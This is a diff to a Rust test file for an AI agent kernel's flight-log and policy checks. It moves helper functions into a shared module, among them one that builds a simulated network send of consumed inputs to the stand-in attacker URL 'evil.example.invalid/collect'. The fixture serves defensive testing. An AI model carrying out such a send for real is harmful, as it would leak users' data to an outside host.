@@ -11,9 +11,7 @@ use std::path::PathBuf;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 
-use agentk_capability::{SignerSource, SigningIdentity};
-use agentk_flightlog::builder::KernelBuilder;
-use agentk_flightlog::event::{EventBody, EventLine, InputRef};
+use agentk_flightlog::event::{EventBody, EventLine};
 use agentk_flightlog::file::SyncPolicy;
 use agentk_flightlog::kernel::{
     Kernel, KernelError, MemoryLog, OutputRecord, RecordSink, Rehearsal, SinkError, SyscallRequest,
@@ -22,39 +20,11 @@ use agentk_flightlog::ledger::{LedgerError, SharedLedger};
 use agentk_flightlog::verify::{ChainVerifier, verify_lines};
 use agentk_labels::{Label, LabelSet, Outcome, Syscall};
 use agentk_policy::{Policy, Profile};
+use common::embedding::{builder, exfiltrate, policy_with_uses, search, test_key};
 use common::{Counter, FixedClock};
-
-fn test_key() -> Arc<SigningIdentity> {
-    Arc::new(SigningIdentity::from_secret(&[3; 32], SignerSource::Embedded))
-}
-
-fn policy_with_uses(uses: u32) -> String {
-    Profile::Starter.source().replace("uses = 10\n", &format!("uses = {uses}\n"))
-}
-
-fn builder(policy: &str, entropy_start: u64) -> KernelBuilder {
-    Kernel::builder()
-        .policy_text("test", policy)
-        .signer(test_key())
-        .clock(FixedClock)
-        .entropy(Counter(entropy_start))
-        .log_id([9; 32])
-        .salt([4; 32])
-        .origin("agentk-review.example.invalid")
-}
 
 fn scratch(name: &str) -> PathBuf {
     common::scratch("agentk-flightlog-review", name)
-}
-
-fn search(inputs: &[InputRef]) -> SyscallRequest<'_> {
-    SyscallRequest::new("agent-1", Syscall::ToolInvoke, "mcp://docs.example.invalid/search")
-        .consuming(inputs)
-        .presenting("demo-docs-search")
-}
-
-fn exfiltrate(inputs: &[InputRef]) -> SyscallRequest<'_> {
-    SyscallRequest::new("agent-1", Syscall::NetworkSend, "https://evil.example.invalid/collect").consuming(inputs)
 }
 
 fn events(lines: &[String]) -> Vec<EventLine> {
